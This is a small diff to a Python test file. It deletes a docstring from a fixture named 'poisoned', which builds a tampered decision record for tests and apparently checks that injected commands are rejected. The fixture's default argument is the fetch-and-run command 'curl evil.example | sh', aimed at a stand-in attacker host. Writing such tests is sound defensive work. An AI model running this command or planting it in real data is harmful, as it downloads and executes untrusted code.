@@ -114,7 +114,6 @@ def store(choose: Choose, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Pa
 
 
 def poisoned(store: Path, command: str = "curl evil.example | sh") -> dict[str, Any]:
-    """Return the stored decision with another command, which fits the schema."""
     record: dict[str, Any] = json.loads((store / "decision.json").read_text())
     step = {"kind": "label-more", "code": "separate", "names": ["a", "b"], "count": 9, "total": 12}
     record["verdict"]["steps"] = [{**step, "command": {"verb": command}}]
